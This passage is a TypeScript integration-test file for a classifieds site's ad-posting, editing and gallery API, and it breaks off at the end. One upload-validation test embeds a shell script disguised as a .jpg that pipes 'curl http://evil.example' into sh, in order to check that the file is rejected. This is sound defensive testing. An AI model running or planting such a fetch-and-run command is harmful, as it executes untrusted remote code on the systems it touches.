import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACCOUNT_MESSAGES } from '@boli/engine/accounts/account.messages';
import { AD_MESSAGES } from '@boli/engine/ads/ad.messages';
import { LIMITS } from '@boli/engine/shared/limits';
import { adStream, type AdDetails, type AdEvent } from '@boli/engine/ads/ad.events';
import { MESSAGES } from '@boli/engine/shared/messages';
import type { AdDetailView, AdView, GalleryItemView } from '@boli/projections/ads/ads.view';
import {
  AD_PHOTO_DISPLAY_SIDE,
  AD_PHOTO_MAX_SIDE,
  displayCopyOf,
  storedFilesOf,
} from '@boli/engine/ads/photoCopies';
import { apiKit, type ApiKit, type TestMember } from '../../../../ops/src/testing/apiKit.ts';
import { startApp, type TestApp } from '../../../../ops/src/testing/app.ts';
import { makeTestVideo } from '../../../../ops/src/testing/testVideo.ts';

type AdList = { ads: AdView[]; page: number; pageSize: number };

let app: TestApp;
let kit: ApiKit;
let mediaDir: string;
let scratch: string;
const previousMediaDir = process.env.MEDIA_DIR;

const minutesFromNow = (minutes: number) => new Date(Date.now() + minutes * 60_000).toISOString();

/** A member with an address (the ads take theirs from it) and a trial, unless told otherwise. */
const member = (username: string, { address = true, trial = true } = {}) =>
  kit.member(username, { phone: '9876543210', address, entitled: trial });

// Media made for the test: real pictures (one carrying EXIF) and a real one-second video.
let jpeg: Uint8Array;
let png: Uint8Array;
let mp4: Uint8Array;

const file = (bytes: Uint8Array, name: string, type: string) => ({ bytes, name, type });
type Upload = ReturnType<typeof file>;
const photo1 = () => file(jpeg, 'front.jpg', 'image/jpeg');
const photo2 = () => file(png, 'inside.png', 'image/png');
const video = () => file(mp4, 'drive.mp4', 'video/mp4');

const honda = {
  itemName: 'Honda City ZX',
  categoryname: 'Automobiles',
  subcategory: 'Cars',
  price: '650000',
  description: 'Second owner.',
  make: 'Honda',
  model: 'City',
  mileage: '61000',
  yearOfManufacture: '2016',
  ownerOrDealer: 'Dealer',
  newOrused: 'Used',
};

const dzire = {
  itemName: 'Swift Dzire VXi',
  categoryname: 'Automobiles',
  subcategory: 'Cars',
  price: '450000',
  description: 'Single owner, all services at the dealer.',
  displayPhone: 'false',
  make: 'Maruti Suzuki',
  model: 'Dzire',
  mileage: '42000',
  yearOfManufacture: '2018',
  ownerOrDealer: 'Owner',
  newOrused: 'Used',
};

function adForm(fields: Record<string, string>, files: Upload[] = [], stagedIds: string[] = []) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const id of stagedIds) form.append('stagedId', id);
  for (const upload of files) {
    form.append('media', new Blob([upload.bytes], { type: upload.type }), upload.name);
  }
  return form;
}

/** Every file under MEDIA_DIR (the scratch folder included), to prove nothing was left behind. */
async function mediaFiles(): Promise<string[]> {
  const entries = await readdir(mediaDir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .sort();
}

let ravi: TestMember;
let meena: TestMember;
let homeless: TestMember;
let unsubscribed: TestMember;
let posted: AdDetailView;

beforeAll(async () => {
  mediaDir = await mkdtemp(join(tmpdir(), 'boli-ads-media-'));
  scratch = await mkdtemp(join(tmpdir(), 'boli-ads-fixtures-'));
  process.env.MEDIA_DIR = mediaDir;
  app = await startApp();
  kit = apiKit(app);
  jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#5f2f9d' } })
    .withExif({ IFD0: { Copyright: 'secret-camera-owner' } })
    .jpeg()
    .toBuffer();
  png = await sharp({ create: { width: 40, height: 40, channels: 4, background: '#ffcc00' } })
    .png()
    .toBuffer();
  mp4 = await readFile(makeTestVideo(join(scratch, 'drive.mp4'), { seconds: 2, size: '160x120' }));
  [ravi, meena, homeless, unsubscribed] = await Promise.all([
    member('ravi_k'),
    member('meena_s'),
    member('nomad_x', { address: false }),
    member('free_rider', { trial: false }),
  ]);
}, 180_000);

afterAll(async () => {
  await kit?.close();
  await app?.stop();
  if (previousMediaDir === undefined) delete process.env.MEDIA_DIR;
  else process.env.MEDIA_DIR = previousMediaDir;
  await rm(mediaDir, { recursive: true, force: true });
  await rm(scratch, { recursive: true, force: true });
});

describe('posting an ad', () => {
  it('posts an Automobiles ad with two photos and a video', async () => {
    const { status, body } = await kit.api('/api/posts/', {
      token: ravi.token,
      form: adForm(dzire, [photo1(), photo2(), video()]),
    });
    expect(body.msg).toBe(MESSAGES.adPosted);
    expect(status).toBe(200);
    posted = body.data as AdDetailView;
    expect(posted).toMatchObject({
      itemName: 'Swift Dzire VXi',
      categoryname: 'Automobiles',
      price: 450_000,
      currencycode: 'INR',
      make: 'Maruti Suzuki',
      mileage: 42_000,
      yearOfManufacture: 2018,
      postedBy: ravi.userId,
      postedByUsername: 'ravi_k',
      // The ad's address comes from the profile; the owner sees the phone.
      city: 'Mysuru',
      street: 'Lake Road',
      phone: '9876543210',
      displayPhone: false,
      bidOpen: true,
      finalCallMade: false,
      closedAt: null,
    });
    expect(posted.uid).toMatch(/^swift-dzire-vxi-[0-9a-f]{10}$/);
    expect(posted.gallery.map((item) => item.galleryType)).toEqual(['photos', 'photos', 'videos']);
    expect(posted.thumbnail).toBe(posted.gallery[0]!.thumbnail);
  });

  it('serves the media: photos re-encoded without their metadata, the video with a poster', async () => {
    const [front, inside, drive] = posted.gallery;
    const served = await fetch(`${app.baseUrl}${front!.url}`);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    const bytes = Buffer.from(await served.arrayBuffer());
    expect(bytes.includes(Buffer.from('secret-camera-owner'))).toBe(false);
    expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    expect(inside!.name).toMatch(/\.jpg$/);
    const movie = await fetch(`${app.baseUrl}${drive!.url}`);
    expect(movie.status).toBe(200);
    expect(movie.headers.get('content-type')).toBe('video/mp4');
    expect(Buffer.from(await movie.arrayBuffer()).equals(Buffer.from(mp4))).toBe(true);
    const poster = await fetch(`${app.baseUrl}${drive!.thumbnail}`);
    expect(poster.headers.get('content-type')).toBe('image/jpeg');
    const { width, height } = await sharp(Buffer.from(await poster.arrayBuffer())).metadata();
    expect([width, height]).toEqual([400, 300]);
  });

  it('keeps a photo’s display copy beside it, and serves the photo for one stored without', async () => {
    const big = await sharp({
      create: { width: 2400, height: 1800, channels: 3, background: '#2f7d5f' },
    })
      .jpeg()
      .toBuffer();
    const uploaded = await kit.api('/api/gallery/upload', {
      token: ravi.token,
      form: adForm({ item_id: posted._id }, [file(big, 'big.jpg', 'image/jpeg')]),
    });
    expect(uploaded.status).toBe(200);
    const photo = (uploaded.body.data as GalleryItemView[]).at(-1)!;
    const sizeOf = async (url: string) => {
      const served = await fetch(`${app.baseUrl}${url}`);
      expect(served.headers.get('content-type')).toBe('image/jpeg');
      const { width, height } = await sharp(Buffer.from(await served.arrayBuffer())).metadata();
      return [width, height];
    };
    expect(await sizeOf(photo.url)).toEqual([AD_PHOTO_MAX_SIDE, 1200]);
    expect(await sizeOf(displayCopyOf(photo.url))).toEqual([AD_PHOTO_DISPLAY_SIDE, 600]);
    // A photo stored before display copies were made (a demo ad's): the photo stands in.
    await rm(join(mediaDir, displayCopyOf(photo.name)));
    expect(await sizeOf(displayCopyOf(photo.url))).toEqual([AD_PHOTO_MAX_SIDE, 1200]);
    // Removed from the gallery, the photo takes its files with it.
    const removed = await kit.api('/api/gallery/remove', {
      token: ravi.token,
      json: { item_id: posted._id, name: photo.name },
    });
    expect(removed.status).toBe(200);
    expect((await mediaFiles()).some((path) => path.includes(photo.name.slice(0, -4)))).toBe(false);
  });

  it('serves byte ranges of a video, so a browser can seek in it', async () => {
    const url = `${app.baseUrl}${posted.gallery[2]!.url}`;
    const whole = Buffer.from(mp4);
    const size = whole.length;
    const ranged = (range: string) => fetch(url, { headers: { range } });

    const middle = await ranged('bytes=100-199');
    expect(middle.status).toBe(206);
    expect(middle.headers.get('content-range')).toBe(`bytes 100-199/${size}`);
    expect(middle.headers.get('content-length')).toBe('100');
    expect(middle.headers.get('accept-ranges')).toBe('bytes');
    expect(middle.headers.get('content-type')).toBe('video/mp4');
    expect(Buffer.from(await middle.arrayBuffer()).equals(whole.subarray(100, 200))).toBe(true);

    const rest = await ranged(`bytes=${size - 10}-`);
    expect(rest.status).toBe(206);
    expect(rest.headers.get('content-range')).toBe(`bytes ${size - 10}-${size - 1}/${size}`);
    expect(Buffer.from(await rest.arrayBuffer()).equals(whole.subarray(size - 10))).toBe(true);

    const tail = await ranged('bytes=-25');
    expect(tail.status).toBe(206);
    expect(tail.headers.get('content-range')).toBe(`bytes ${size - 25}-${size - 1}/${size}`);
    expect(Buffer.from(await tail.arrayBuffer()).equals(whole.subarray(size - 25))).toBe(true);

    const beyond = await ranged(`bytes=${size}-${size + 100}`);
    expect(beyond.status).toBe(416);
    expect(beyond.headers.get('content-range')).toBe(`bytes */${size}`);
    await beyond.arrayBuffer();

    // Without a Range header: the whole file, saying ranges are welcome.
    const plain = await fetch(url);
    expect(plain.status).toBe(200);
    expect(plain.headers.get('accept-ranges')).toBe('bytes');
    expect(Buffer.from(await plain.arrayBuffer()).equals(whole)).toBe(true);
  });

  it('answers the ad by id and by uid, hiding the phone from others', async () => {
    const byId = await kit.api(`/api/posts/post?item_id=${posted._id}`, { token: meena.token });
    expect(byId.status).toBe(200);
    expect(byId.body.data).toMatchObject({
      _id: posted._id,
      phone: '',
      houseno: '',
      street: '',
      gallery: posted.gallery,
    });
    const byUid = await kit.api(`/api/posts/postUID?item_uid=${posted.uid}`);
    expect((byUid.body.data as AdDetailView)._id).toBe(posted._id);
    expect((await kit.api(`/api/posts/post?item_id=${posted.uid}`)).status).toBe(200);
    const missing = await kit.api('/api/posts/post?item_id=nothing-here');
    expect(missing).toMatchObject({ status: 404, body: { msg: 'Ad not found' } });
    // An id longer than any ad's is an ad not found too, not a validator's wording.
    const tooLong = await kit.api(`/api/posts/postUID?item_uid=${'x'.repeat(5000)}`);
    expect(tooLong.body.msg).toBe('Ad not found');
  });

  it('takes staged files, uploaded one per request ahead of the form', async () => {
    const stageForm = new FormData();
    stageForm.append('file', new Blob([png], { type: 'image/png' }), 'side.png');
    const staged = await kit.api('/api/gallery/stage', { token: meena.token, form: stageForm });
    expect(staged.status).toBe(200);
    const { stagedId, galleryType, thumbnail } = staged.body.data as Record<string, string>;
    expect(galleryType).toBe('photos');
    expect((await fetch(`${app.baseUrl}${thumbnail}`)).status).toBe(200);
    const fields = { ...dzire, itemName: 'Hyundai Creta SX', make: 'Hyundai', model: 'Creta' };
    // Someone else's staged file is not theirs to post.
    const stolen = await kit.api('/api/posts/', {
      token: ravi.token,
      form: adForm(fields, [], [stagedId!]),
    });
    expect(stolen).toMatchObject({ status: 400, body: { msg: AD_MESSAGES.stagedMediaNotFound } });
    const { status, body } = await kit.api('/api/posts/', {
      token: meena.token,
      form: adForm(fields, [photo1()], [stagedId!]),
    });
    expect(status).toBe(200);
    expect((body.data as AdDetailView).gallery).toHaveLength(2);
    // Used once, it is gone from the staging area.
    const again = await kit.api('/api/posts/', {
      token: meena.token,
      form: adForm(fields, [], [stagedId!]),
    });
    expect(again.status).toBe(400);
  });
});

describe('a refused post', () => {
  const refused = async (member: TestMember, form: FormData) => {
    const before = await mediaFiles();
    const answer = await kit.api('/api/posts/', { token: member.token, form });
    // Nothing it wrote stays behind: no stored media, no scratch file.
    expect(await mediaFiles()).toEqual(before);
    return answer;
  };

  it('refuses a 7th file', async () => {
    const seven = Array.from({ length: 7 }, (_, i) => file(jpeg, `p${i}.jpg`, 'image/jpeg'));
    const { status, body } = await refused(ravi, adForm(dzire, seven));
    expect(status).toBe(400);
    expect(body.msg).toBe(AD_MESSAGES.tooManyMedia);
  });

  it('refuses a file over 10 MB', async () => {
    const big = new Uint8Array(11 * 1024 * 1024);
    big.set(jpeg.subarray(0, 64));
    const { status, body } = await refused(
      ravi,
      adForm(dzire, [photo1(), file(big, 'huge.jpg', 'image/jpeg')]),
    );
    expect(status).toBe(413);
    expect(body.msg).toBe(AD_MESSAGES.mediaTooLarge);
  });

  it('refuses a .jpg that is really a script, and a video named as a photo', async () => {
    const script = new TextEncoder().encode('#!/bin/sh\ncurl http://evil.example | sh\n');
    const fake = await refused(
      ravi,
      adForm(dzire, [photo1(), file(script, 'car.jpg', 'image/jpeg')]),
    );
    expect(fake.status).toBe(415);
    expect(fake.body.msg).toBe(AD_MESSAGES.mediaNotWhatNamed);
    const renamed = await refused(ravi, adForm(dzire, [file(mp4, 'car.jpg', 'image/jpeg')]));
    expect(renamed.status).toBe(415);
    expect(renamed.body.msg).toBe(AD_MESSAGES.mediaNotWhatNamed);
    const gif = await refused(ravi, adForm(dzire, [photo1(), file(jpeg, 'car.gif', 'image/gif')]));
    expect(gif.status).toBe(415);
    expect(gif.body.msg).toBe(AD_MESSAGES.mediaNotAllowed);
    // An empty file (a photo not yet synced from the cloud) is said to be empty.
    // A video cut short (its index lost with its end) has no picture to show: refused as such.
    const cut = await refused(
      ravi,
      adForm(dzire, [file(mp4.subarray(0, Math.floor(mp4.length * 0.6)), 'cut.mp4', 'video/mp4')]),
    );
    expect(cut.status).toBe(400);
    expect(cut.body.msg).toBe(AD_MESSAGES.mediaUnreadable);
    // So is one written for the web, its index first: its first picture is whole, its end gone.
    const whole = await readFile(
      makeTestVideo(join(scratch, 'web-ready.mp4'), {
        seconds: 3,
        size: '320x240',
        rate: 25,
        extra: ['-movflags', '+faststart'],
      }),
    );
    const cutFirst = await refused(
      ravi,
      adForm(dzire, [
        file(whole.subarray(0, Math.floor(whole.length * 0.6)), 'web.mp4', 'video/mp4'),
      ]),
    );
    expect(cutFirst.status).toBe(400);
    expect(cutFirst.body.msg).toBe(AD_MESSAGES.mediaUnreadable);
    const none = await refused(
      ravi,
      adForm(dzire, [file(new Uint8Array(0), 'car.jpg', 'image/jpeg')]),
    );
    expect(none.status).toBe(415);
    expect(none.body.msg).toBe(AD_MESSAGES.mediaEmpty);
  });

  it('refuses an ad without media', async () => {
    const { status, body } = await refused(ravi, adForm(dzire));
    expect(status).toBe(400);
    expect(body.msg).toBe(AD_MESSAGES.mediaRequired);
  });

  it('refuses an Automobiles ad without its make, naming the field', async () => {
    const { make: _make, ...noMake } = dzire;
    const { status, body } = await refused(ravi, adForm(noMake, [photo1(), video()]));
    expect(status).toBe(400);
    expect(body.msg).toBe(AD_MESSAGES.vehicleFieldsRequired);
    expect(body.errors).toEqual([{ field: 'make', message: AD_MESSAGES.vehicleFieldsRequired }]);
  });

  it('refuses a Sports ad without its type (Team or Player)', async () => {
    const team = {
      itemName: 'Cricket team for tournaments',
      categoryname: 'Sports',
      subcategory: 'Cricket',
      price: '5000',
      description: 'Weekend matches.',
    };
    const { status, body } = await refused(ravi, adForm(team, [photo1()]));
    expect(status).toBe(400);
    expect(body.msg).toBe(AD_MESSAGES.sportsTypeRequired);
    expect(body.errors?.[0]?.field).toBe('type');
    const ok = await kit.api('/api/posts/', {
      token: ravi.token,
      form: adForm({ ...team, type: 'Team' }, [photo1()]),
    });
    expect(ok.status).toBe(200);
  });

  it('refuses a description of 150 characters', async () => {
    const { status, body } = await refused(
      ravi,
      adForm({ ...dzire, description: 'x'.repeat(150) }, [photo1()]),
    );
    expect(status).toBe(400);
    expect(body.msg).toBe(AD_MESSAGES.descriptionTooLong);
  });

  /** Each case's fields over the Dzire's, refused with its field's message alone. */
  const expectRefusedFields = async (
    cases: readonly (readonly [Record<string, string>, string, keyof typeof AD_MESSAGES])[],
  ) => {
    for (const [fields, field, message] of cases) {
      const { status, body } = await refused(ravi, adForm({ ...dzire, ...fields }, [photo1()]));
      expect({ status, errors: body.errors }).toEqual({
        status: 400,
        errors: [{ field, message: AD_MESSAGES[message] }],
      });
    }
  };

  it('refuses a category, subcategory or currency the reference data does not have', async () => {
    const cases = [
      [{ categoryname: 'QA Nonsense', subcategory: 'Whatever' }, 'categoryname', 'unknownCategory'],
      [{ categoryname: 'Furniture', subcategory: 'Cars' }, 'subcategory', 'unknownSubcategory'],
      [{ currencycode: 'XYZ' }, 'currencycode', 'invalidCurrency'],
    ] as const;
    await expectRefusedFields(cases);
    // Names are matched as the pickers' look-ups match them: in any case, by slug too.
    const lower = await kit.api('/api/posts/', {
      token: ravi.token,
      form: adForm(
        { ...honda, categoryname: 'automobiles', subcategory: 'cars', currencycode: 'usd' },
        [photo1()],
      ),
    });
    expect(lower.status).toBe(200);
    // …and filed under the list's own names, where the filters look.
    expect(lower.body.data).toMatchObject({
      categoryname: 'Automobiles',
      subcategory: 'Cars',
      currencycode: 'USD',
    });
    const adId = (lower.body.data as AdDetailView)._id;
    // A car moved to Bikes keeps no car's model: the make and model are judged with it.
    const carLeftOn = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: adId, subcategory: 'BIKES' },
    });
    expect({ status: carLeftOn.status, errors: carLeftOn.body.errors }).toEqual({
      status: 400,
      errors: [{ field: 'model', message: AD_MESSAGES.unknownModel }],
    });
    const edited = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: adId, subcategory: 'BIKES', model: 'cb shine' },
    });
    expect(edited.body.data).toMatchObject({
      categoryname: 'Automobiles',
      subcategory: 'Bikes',
      make: 'Honda',
      model: 'CB Shine',
    });
  });

  it('takes a vehicle’s make and model from its subcategory’s lists only', async () => {
    const cases = [
      // A car's make posted as a boat.
      [{ categoryname: 'Ships Boats', subcategory: 'Boats' }, 'make', 'unknownMake'],
      [{ model: 'Civic' }, 'model', 'unknownModel'],
    ] as const;
    await expectRefusedFields(cases);
  });

  it('takes an ad’s own place from the pickers’ lists only, stored as they write it', async () => {
    const elsewhere = await refused(
      ravi,
      adForm(
        { ...honda, country: 'India', state: 'Narnia', city: 'Nowhere', street: 'Main Road' },
        [photo1()],
      ),
    );
    expect({ status: elsewhere.status, errors: elsewhere.body.errors }).toEqual({
      status: 400,
      errors: [{ field: 'state', message: ACCOUNT_MESSAGES.unknownState }],
    });
    const posted = await kit.api('/api/posts/', {
      token: ravi.token,
      form: adForm(
        {
          ...honda,
          country: 'india',
          state: 'karnataka',
          district: 'bengaluru urban',
          city: 'Bengaluru',
          street: '100 Feet Road',
          houseno: '',
          pincode: '',
        },
        [photo1()],
      ),
    });
    // The form's own address, as given: no house number or pincode of the poster's Mysuru home.
    expect(posted.body.data).toMatchObject({
      country: 'India',
      state: 'Karnataka',
      district: 'Bengaluru Urban',
      city: 'Bengaluru',
      street: '100 Feet Road',
      houseno: '',
      pincode: '',
    });
    const moved = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: (posted.body.data as AdDetailView)._id, district: 'Nowhere' },
    });
    expect(moved).toMatchObject({
      status: 400,
      body: { errors: [{ field: 'district', message: ACCOUNT_MESSAGES.unknownDistrict }] },
    });
  });

  it('takes a neighbourhood from its district’s list only, where the district has one', async () => {
    const bengaluru = {
      ...honda,
      country: 'India',
      state: 'Karnataka',
      district: 'Bengaluru Urban',
      city: 'Bengaluru',
      street: '100 Feet Road',
    };
    // A Lucknow locality: Bengaluru's neighbourhood filter would offer it, and find this ad by it.
    const lucknow = await refused(
      ravi,
      adForm({ ...bengaluru, neighbourHood: 'Aminabad' }, [photo1()]),
    );
    expect({ status: lucknow.status, errors: lucknow.body.errors }).toEqual({
      status: 400,
      errors: [{ field: 'neighbourHood', message: ACCOUNT_MESSAGES.unknownNeighbourhood }],
    });
    const posted = await kit.api('/api/posts/', {
      token: ravi.token,
      form: adForm({ ...bengaluru, neighbourHood: 'basavanagudi' }, [photo1()]),
    });
    expect(posted.body.data).toMatchObject({ neighbourHood: 'Basavanagudi' });
    const adId = (posted.body.data as AdDetailView)._id;
    const edited = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: adId, neighbourHood: 'Aminabad' },
    });
    expect(edited).toMatchObject({
      status: 400,
      body: {
        errors: [{ field: 'neighbourHood', message: ACCOUNT_MESSAGES.unknownNeighbourhood }],
      },
    });
    // Moved to Lucknow, its localities are the ad's to name.
    const movedOn = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: adId, state: 'Uttar Pradesh', district: 'Lucknow', neighbourHood: 'aminabad' },
    });
    expect(movedOn.status).toBe(200);
    expect(movedOn.body.data).toMatchObject({ district: 'Lucknow', neighbourHood: 'Aminabad' });
  });

  it('refuses a price that is not a number', async () => {
    const { status, body } = await refused(ravi, adForm({ ...dzire, price: 'lots' }, [photo1()]));
    expect(status).toBe(400);
    expect(body.errors).toEqual([{ field: 'price', message: AD_MESSAGES.invalidPrice }]);
    const huge = await refused(ravi, adForm({ ...dzire, price: '99999999999999999' }, [photo1()]));
    expect(huge.body.errors).toEqual([{ field: 'price', message: MESSAGES.amountTooLarge }]);
    // Too many digits for a number at all (Infinity): too large all the same.
    const endless = await refused(ravi, adForm({ ...dzire, price: '9'.repeat(400) }, [photo1()]));
    expect(endless.body.errors).toEqual([{ field: 'price', message: MESSAGES.amountTooLarge }]);
  });

  it('asks a poster without an address on their profile to fill it', async () => {
    const { status, body } = await refused(homeless, adForm(dzire, [photo1()]));
    expect(status).toBe(400);
    expect(body.msg).toBe('Address Required!! Please fill the address');
  });

  it('asks a poster whose mobile is not verified to verify it, before any address', async () => {
    const unverified = await kit.member('post_unverified', { verified: false, address: false });
    const { status, body } = await refused(unverified, adForm(dzire, [photo1()]));
    expect({ status, msg: body.msg }).toEqual({
      status: 403,
      msg: ACCOUNT_MESSAGES.mobileNotVerified,
    });
    // Nor may they upload a file ahead of the form.
    const stageForm = new FormData();
    stageForm.append('file', new Blob([png], { type: 'image/png' }), 'side.png');
    const staged = await kit.api('/api/gallery/stage', {
      token: unverified.token,
      form: stageForm,
    });
    expect({ status: staged.status, msg: staged.body.msg }).toEqual({
      status: 403,
      msg: ACCOUNT_MESSAGES.mobileNotVerified,
    });
  });

  it('asks a poster without a subscription or trial to subscribe', async () => {
    const { status, body } = await refused(unsubscribed, adForm(dzire, [photo1()]));
    expect(status).toBe(403);
    expect(body).toMatchObject({
      msg: MESSAGES.pleaseSubscribe,
      data: { subscribeAt: '/subscription' },
    });
  });

  it('needs a token', async () => {
    expect((await kit.api('/api/posts/', { form: adForm(dzire, [photo1()]) })).status).toBe(401);
  });
});

describe('editing an ad', () => {
  it('is for its owner only', async () => {
    const other = await kit.api('/api/posts/edit', {
      token: meena.token,
      json: { ad_id: posted._id, price: 1 },
    });
    expect(other).toMatchObject({ status: 403, body: { msg: AD_MESSAGES.notAdOwner } });
    const { status, body } = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted.uid, price: 425_000.5, description: 'Price reduced.' },
    });
    expect(status).toBe(200);
    expect(body.msg).toBe(MESSAGES.adUpdated);
    expect(body.data).toMatchObject({ price: 425_000.5, description: 'Price reduced.' });
  });

  it('refuses to undo unseen a change made since its form was opened, answering the ad as it is', async () => {
    const opened = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, description: 'Opened in two tabs.' },
    });
    expect(opened.status).toBe(200);
    const first = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, price: 410_000, was: { price: '425000.5' } },
    });
    expect(first.status).toBe(200);
    // The second tab still shows the price it opened with.
    const stale = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: {
        ad_id: posted._id,
        price: 400_000,
        description: 'Stale tab.',
        was: { price: '425000.5', description: 'Opened in two tabs.' },
      },
    });
    expect(stale).toMatchObject({
      status: 409,
      body: {
        msg: AD_MESSAGES.adChangedElsewhere,
        code: 'AD_CHANGED',
        data: { price: 410_000, description: 'Opened in two tabs.' },
      },
    });
    // A field nobody else changed goes through, spaces around it aside.
    const other = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: {
        ad_id: posted._id,
        description: 'Price reduced.',
        was: { description: ' Opened in two tabs. ' },
      },
    });
    expect(other.status).toBe(200);
    expect(other.body.data).toMatchObject({ price: 410_000, description: 'Price reduced.' });
    // Someone else's edit is refused as theirs, whatever it says it saw.
    const notMine = await kit.api('/api/posts/edit', {
      token: meena.token,
      json: { ad_id: posted._id, price: 1, was: { price: '1' } },
    });
    expect(notMine).toMatchObject({ status: 403, body: { msg: AD_MESSAGES.notAdOwner } });
    // The ad is shared by later tests: its price is put back.
    const back = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, price: 425_000.5 },
    });
    expect(back.status).toBe(200);
  });

  it('lets one of several edits sent at once from forms showing the same price through', async () => {
    const tabs = await Promise.all(
      [1, 2, 3, 4, 5, 6].map((n) =>
        kit.api('/api/posts/edit', {
          token: ravi.token,
          json: { ad_id: posted._id, price: 425_000 + n, was: { price: '425000.5' } },
        }),
      ),
    );
    expect(tabs.map(({ status }) => status).sort()).toEqual([200, 409, 409, 409, 409, 409]);
    const saved = (tabs.find(({ status }) => status === 200)!.body.data as AdDetailView).price;
    for (const refused of tabs.filter(({ status }) => status === 409)) {
      expect(refused.body).toMatchObject({ code: 'AD_CHANGED', data: { price: saved } });
    }
    const back = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, price: 425_000.5 },
    });
    expect(back.status).toBe(200);
  });

  it('takes an emptied phone as the number on the owner’s profile, as a post does', async () => {
    const typed = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, phone: '9000000001', displayPhone: false },
    });
    expect(typed.body.data).toMatchObject({ phone: '9000000001' });
    const { status, body } = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, phone: '  ', displayPhone: true },
    });
    expect(status).toBe(200);
    expect(body.data).toMatchObject({ phone: '9876543210', displayPhone: true });
    // The ad is shared by later tests: its phone is hidden again.
    const hidden = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, displayPhone: false },
    });
    expect(hidden.status).toBe(200);
  });

  it('is judged by the same rules as a post', async () => {
    const moved = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, subcategory: 'Sofa & Dining' },
    });
    expect(moved).toMatchObject({
      status: 400,
      body: { errors: [{ field: 'subcategory', message: AD_MESSAGES.unknownSubcategory }] },
    });
    const { status, body } = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, description: 'y'.repeat(150) },
    });
    expect(status).toBe(400);
    expect(body.msg).toBe(AD_MESSAGES.descriptionTooLong);
    // An item name over the limit, however far over, is refused in the rule's words.
    for (const itemName of ['z'.repeat(LIMITS.itemNameMax + 1), 'z'.repeat(5_000)]) {
      const long = await kit.api('/api/posts/edit', {
        token: ravi.token,
        json: { ad_id: posted._id, itemName },
      });
      expect(long).toMatchObject({ status: 400, body: { msg: AD_MESSAGES.itemNameTooLong } });
    }
  });
});

describe('the gallery', () => {
  it('lists, adds to, chooses the thumbnail of and removes from an ad’s gallery', async () => {
    const listed = await kit.api(`/api/gallery/media?item_id=${posted._id}`);
    expect(listed.body.data).toEqual(posted.gallery);

    const upload = adForm({ item_id: posted._id }, [photo2()]);
    const byOther = await kit.api('/api/gallery/upload', { token: meena.token, form: upload });
    expect(byOther.status).toBe(403);
    const added = await kit.api('/api/gallery/upload', {
      token: ravi.token,
      form: adForm({ item_id: posted._id }, [photo2()]),
    });
    expect(added.status).toBe(200);
    const gallery = added.body.data as (AdDetailView['gallery'][number] & { added?: true })[];
    expect(gallery).toHaveLength(4);
    // Only the item this request stored is marked as added by it.
    expect(gallery.map((item) => item.added ?? false)).toEqual([false, false, false, true]);

    const video = gallery[2]!;
    const chosen = await kit.api('/api/gallery/thumbnail', {
      token: ravi.token,
      json: { item_id: posted._id, name: video.name },
    });
    expect((chosen.body.data as AdDetailView).thumbnail).toBe(video.thumbnail);

    // The owner arranges the gallery; the ad's page and its list read it in that order.
    const names = gallery.map((item) => item.name);
    const arranged = [names[2]!, names[0]!, ...names.slice(3), names[1]!];
    const order = (token: string, list: string[]) =>
      kit.api('/api/gallery/order', { token, json: { item_id: posted._id, order: list } });
    expect((await order(meena.token, arranged)).status).toBe(403);
    const reordered = await order(ravi.token, arranged);
    expect(reordered.status).toBe(200);
    expect((reordered.body.data as AdDetailView).gallery.map((item) => item.name)).toEqual(
      arranged,
    );
    const read = await kit.api(`/api/gallery/media?item_id=${posted._id}`, { token: ravi.token });
    expect((read.body.data as { name: string }[]).map((item) => item.name)).toEqual(arranged);
    // An order made against another gallery (a photo removed since, in another tab).
    expect(await order(ravi.token, arranged.slice(1))).toEqual(
      expect.objectContaining({
        status: 409,
        body: expect.objectContaining({ msg: AD_MESSAGES.mediaOrderStale }),
      }),
    );

    const removed = await kit.api('/api/gallery/remove', {
      token: ravi.token,
      json: { item_id: posted._id, name: video.name },
    });
    expect(removed.status).toBe(200);
    const after = removed.body.data as AdDetailView;
    expect(after.gallery.map((item) => item.name)).not.toContain(video.name);
    expect(after.thumbnail).toBe(after.gallery[0]!.thumbnail);
    expect((await fetch(`${app.baseUrl}${video.url}`)).status).toBe(404);
  });

  it('refuses more than 6 media on an ad, leaving no file behind', async () => {
    const before = await mediaFiles();
    const { status } = await kit.api('/api/gallery/upload', {
      token: ravi.token,
      form: adForm({ item_id: posted._id }, [photo1(), photo1(), photo1(), photo1()]),
    });
    expect(status).toBe(400);
    expect(await mediaFiles()).toEqual(before);
  });

  it('refuses a NUL character in a multipart field with 400, as in any other body', async () => {
    const { status, body } = await kit.api('/api/gallery/upload', {
      token: ravi.token,
      form: adForm({ item_id: `${posted._id}\u0000` }, [photo1()]),
    });
    expect({ status, msg: body.msg }).toEqual({ status: 400, msg: MESSAGES.nulCharacter });
  });

